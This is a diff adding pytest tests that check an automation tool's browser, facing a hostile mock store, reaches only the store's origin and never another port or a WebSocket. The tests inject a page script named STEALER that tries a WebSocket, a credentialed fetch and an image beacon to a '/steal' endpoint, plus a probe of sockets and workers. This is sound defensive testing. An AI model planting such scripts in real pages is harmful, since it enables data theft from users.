@@ -1,5 +1,6 @@
 """The network edges, with the store as the attacker: a read that drips or floods its answer ends
-within a few timeouts with one line."""
+within a few timeouts with one line, and the browser reaches the store's origin and its asset
+origins only: no other port of the store's host, no WebSocket."""
 from __future__ import annotations
 
 import json
@@ -8,11 +9,14 @@ from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from playwright.sync_api import Error, Page
 
 from automation.session import session_file
 from automation.settings import Settings
+from mock_store import seed
 from tests.conftest import CliResult
-from tests.hostile_http import Answer, drip, huge, serving
+from tests.hostile_http import Answer, drip, huge, nothing, serving
+from tests.store_api import StoreAdmin
 
 Cli = Callable[..., CliResult]
 TIMEOUT_S = 2
@@ -76,3 +80,62 @@ def test_in_the_browser_a_dripping_or_flooding_page_ends_after_its_two_tries(ans
     assert result.exit_code == 1 and result.json["outcome"] == "error", result.stderr[-2000:]
     assert "Timeout 2000ms exceeded" in result.json["message"] and "\n" not in result.json["message"]
     assert len(heads) == 2
+
+
+# A page script that tries the other port of the store's host every way it can, then tells the
+# store it ran (a synchronous request, so the store has it before the tool moves on).
+STEALER = """
+(function () {
+  var other = "127.0.0.1:%d";
+  try { new WebSocket("ws://" + other + "/steal"); } catch (e) {}
+  fetch("http://" + other + "/steal", {mode: "no-cors", credentials: "include"}).catch(function () {});
+  new Image().src = "http://" + other + "/steal.gif";
+  var told = new XMLHttpRequest();
+  told.open("GET", "/__probe/ran", false);
+  told.send();
+})();
+"""
+
+
+def test_a_page_script_reaches_no_other_port_of_the_store_host(store: StoreAdmin, cli: Cli) -> None:
+    with serving(nothing) as elsewhere:
+        store.faults(inject_script=STEALER % elsewhere.port)
+
+        checked = cli("check", seed.DEMO_ORDER, "--json")  # no saved session: the browser reads Order Details
+        dry_run = cli("cancel", seed.DEMO_ORDER, "--dry-run", "--json")  # the browser opens Cancel items
+
+    assert checked.exit_code == 0 and checked.json["outcome"] == "checked", checked.stderr[-2000:]
+    assert dry_run.exit_code == 0 and dry_run.json["outcome"] == "would_cancel", dry_run.stderr[-2000:]
+    assert [r["path"] for r in store.requests()].count("/__probe/ran") >= 2  # it ran on both pages
+    assert elsewhere.connections == 0  # not the socket, not the fetch, not the image
+    assert store.order(seed.DEMO_ORDER).statuses() == {"ordered"}
+
+
+UNROUTED = """async (other) => {
+  const socket = (address) => new Promise((done) => {
+    const ws = new WebSocket(address);
+    ws.onopen = () => done("open");
+    ws.onerror = () => done("refused");
+  });
+  const fetched = (address) => fetch(address, {mode: "no-cors"}).then(() => "answered", () => "refused");
+  const worker = new Worker(URL.createObjectURL(new Blob([
+    `new WebSocket("ws://${other}/").onerror = () => postMessage("refused");`])));
+  const fromWorker = new Promise((done) => { worker.onmessage = (e) => done(e.data); });
+  return [await socket(`ws://${other}/`), await fetched(`http://${other}/`), await fromWorker];
+}"""
+
+
+def test_the_browsers_resolver_alone_refuses_other_ports_of_the_store_host(store: StoreAdmin, page: Page) -> None:
+    # this context has none of the tool's routes: only the launch flags (conftest launches the
+    # tool's way), which the routes cannot stand in for: they never see a redirect's hops, nor a
+    # worker's socket
+    with serving(nothing) as elsewhere:
+        other = f"127.0.0.1:{elsewhere.port}"
+        assert page.goto(f"{store.url}/healthz").status == 200  # the store's origin resolves
+
+        outcome = page.evaluate(UNROUTED, other)
+        with pytest.raises(Error, match="ERR_NAME_NOT_RESOLVED"):
+            page.goto(f"http://{other}/")  # as a redirect's hop would go
+
+    assert outcome == ["refused", "refused", "refused"]
+    assert elsewhere.connections == 0
